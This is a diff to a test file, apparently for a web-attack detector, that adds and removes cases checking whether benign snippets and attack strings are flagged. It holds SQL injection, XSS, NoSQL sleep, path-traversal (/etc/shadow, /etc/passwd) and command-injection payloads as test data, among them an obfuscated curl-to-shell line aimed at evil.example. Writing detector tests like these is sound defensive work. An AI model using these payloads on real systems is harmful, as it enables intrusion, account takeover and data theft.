@@ -2524,9 +2524,8 @@ t.test('thirty-second round: sweeps of documentation, CI configurations, stylesh
   // an element's name quoted as a call's argument or an item
   for (const p of ["var div = document.createElement('div');", "el.querySelector('div')", '$("div")', "x = ['div', 'span']"]) t.same(q(p, 'snippet'), [], p)
   for (const p of ["'div'", "x' div 1 --", "f('div') union select 1,2--", "('div') or 1=1", "1,'div',1", "x,'div',x", "=('div')", "1=('div')", ":'div':", ',"div",', "a,'div';"]) t.ok(q(p, 'snippet').includes('sqli'), `still read (review): ${p}`)
-  // a DOM sink handed a plain text literal
-  t.same(q("schemaStatus.innerHTML = 'Schema Empty';", 'snippet'), [], 'innerHTML set to plain text')
-  for (const p of ["x.innerHTML = '<img src=x onerror=alert(1)>';", 'x.innerHTML=location.hash', "x.innerHTML = 'a' + location.hash;", 'x.innerHTML = "&#60;img src=x onerror=alert(1)&#62;";']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
+  // a DOM sink handed a plain text literal is still read (the exemption withdrawn after the third review: a breakout that writes a phishing text)
+  for (const p of ["\";document.body.innerHTML='Session expired. Sign in again at evil dot example';//", "x.innerHTML = '<img src=x onerror=alert(1)>';", 'x.innerHTML=location.hash']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
   // a program's pause: `sleep` as a method or awaited
   for (const p of ['Thread.sleep(1000);', 'await sleep(100);', 'time.sleep(5);']) t.same(q(p, 'where'), [], p)
   for (const p of ['sleep(5000);', "'; sleep(5000); var x='", 'this.a == 1 && sleep(1000);', "'; (function(){return this})().sleep(5000); var x='", "'; typeof await\nsleep(5000); var x='", '1; globalThis.sleep(5000);', "'; Function('return this')().sleep(5000); var x='"]) t.ok(q(p, 'where').includes('nosqli'), `still read (review): ${p}`)
@@ -2585,8 +2584,10 @@ t.test('thirty-second round: the twenty-third part\'s false positives, by kind',
   for (const p of ['Auto create user home dir while adding new user', 'Create user home directory']) t.same(q(p, 'desc'), [], p)
   for (const p of ['create user hacker identified by "x"', "'; create user hacker identified by 'x'--", "';create user x;--", "'; CREATE USER evil WITH PASSWORD 'p';--", "1; create login x with password='p'--", "'; create user 'x'@'%' identified by 'p'--"]) t.ok(q(p, 'desc').includes('sqli'), `still read: ${p}`)
   // PromQL: `or` between its own functions, a selector's regular expression, Grafana's global variables
-  for (const p of ['rate(mysql_perf_schema_events_waits_total{service_name=~"$service_name",event_name=~"$event"}[$interval]) or irate(mysql_perf_schema_events_waits_total{service_name=~"$service_name"}[5m])', 'label_values(redis_up{node_name=~"$environment|$node_name"},service_name)', 'avg by (op) (rate(mongodb_ss_opcounters{service_name=~"$service_name", op!~"(command|query|getmore)"}[$interval]))', '/graph/d/node-disk/disk-details?$__url_time_range&$__all_variables', '/d/x?var-node=${__field.labels.node_name}&$__url_time_range']) t.same(q(p, 'expr'), [], p)
+  for (const p of ['rate(mysql_perf_schema_events_waits_total{service_name=~"$service_name",event_name=~"$event"}[$interval]) or irate(mysql_perf_schema_events_waits_total{service_name=~"$service_name"}[5m])', '/graph/d/node-disk/disk-details?$__url_time_range&$__all_variables', '/d/x?var-node=${__field.labels.node_name}&$__url_time_range']) t.same(q(p, 'expr'), [], p)
   for (const p of ["x{a=\"b\"}') or rate(1) union select password from users--", 'x{a=~"$(id)"}', 'x{a=~"`id`"}', 'x{a=~"a"}|id', 'a&$__x;id', '&$CMD']) t.ok(q(p, 'expr').length > 0, `still read: ${p}`)
+  // (third review) a selector's regular expression is read by the shell as written: the first `"` can close the application's own quote
+  for (const p of ['label_values(redis_up{node_name=~"$environment|$node_name"},service_name)', 'x{a=~"|id|"}']) t.ok(q(p, 'expr').includes('rce'), `read as written: ${p}`)
   // a CMS's own embed placeholder (Wagtail's rich text), with no source
   t.same(q('<p>come celebrate <embed embedtype="image" format="fullwidth" id="1" alt="where did my image go?" /></p>', 'body'), [], "Wagtail's embed")
   for (const p of ['<embed embedtype="image" src="javascript:alert(1)">', '<embed src=x>', '<embed embedtype="image" format="x" onload="alert(1)"/>']) t.ok(q(p, 'body').includes('xss'), `still read: ${p}`)
@@ -2597,4 +2598,21 @@ t.test('thirty-second round: the twenty-third part\'s false positives, by kind',
   const repo = (query: string) => `@Repository\npublic interface BankAccountRepository extends JpaRepository<BankAccount, Long> {\n    ${query}\n    Optional<BankAccount> findOneWithToOneRelationships(@Param("id") Long id);\n\n    default List<BankAccount> findAll() {\n        return this.findAllWithToOneRelationships();\n    }\n}\n`
   for (const query of ['@Query("select bankAccount from BankAccount bankAccount left join fetch bankAccount.user where bankAccount.id =:id")', '@Query(value = "select a from A a where a.x = :x")']) t.same(field(repo(query)), [], query)
   for (const query of ["@Query(\"select a from A a where a.name = '' or 1=1 -- \")", '@Query("select a from A a; drop table users")', '@Query("select a from A a union select password from users")']) t.ok(field(repo(query)).includes('sqli'), `still read: ${query}`)
+})
+
+t.test('third review of the thirty-second round: the twenty-third part\'s exemptions an attacker could shape', async (t) => {
+  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
+  // a script's statements then a breakout; a quote in a "comment" line; a probe with inline comments as blanks
+  for (const p of ["-- x\nupdate t set a=1;\n' OR 2>1 --", "delete from t;\ndelete from u;\n'; DROP TABLE users;--", "-- x\ndelete from t;\n'; UPDATE users SET role='admin' WHERE name='me';--", "-- x\ndelete from t;\n' union/**/select password from users--", "--';DROP TABLE users;--\ndelete from t;\ndelete from t;"]) t.ok(q(p).includes('sqli'), `still read: ${JSON.stringify(p)}`)
+  // Grafana's variables by their names only, removed, and not where the value assigns one
+  for (const p of ['&& c${__a}url evil.example/x|s${__a}h', 'x{a="b"}; i${__x}d', '__a=id;$__a|x']) t.ok(q(p).includes('rce'), `still read: ${p}`)
+  // an account created after a separator, whatever follows its name
+  for (const p of ["1; CREATE USER [evil] WITH PASSWORD='P@ssw0rd1'", "1; CREATE USER `evil` IDENTIFIED BY 'x'", "1; CREATE USER evil ENCRYPTED PASSWORD 'x'", '1;CREATE USER evil INHERIT', '1; CREATE USER evil BYPASSRLS']) t.ok(q(p, 'id').includes('sqli'), `still read: ${p}`)
+  // a sentence under a key naming files; a system file glued to letters without Latin ones
+  t.ok(q('report.pdf, notes, /etc/shadow, more files listed here for the weekly backup job to run ok', 'files').includes('path_traversal'), 'a list under files')
+  t.ok(q(`${'漢字'.repeat(42)}/etc/passwd漢字`).includes('path_traversal'), 'glued to CJK letters')
+  // PromQL's `or` with a quote or a comment in the value
+  for (const p of ["x{a=\"b\"}') or changes()>=0--", "x{a=\"b\"}') or rate(users) is not null--", "m{a=\"b\"}') or resets(1) or 1--"]) t.ok(q(p).includes('sqli'), `still read: ${p}`)
+  // an annotation's query that is an injection by itself
+  t.ok(field('import java.util.List\npublic interface R {\n    @Query(" OR 1=1 OR ")\n    public List findAll()\n}\n').includes('sqli'), '@Query(" OR 1=1 OR ")')
 })
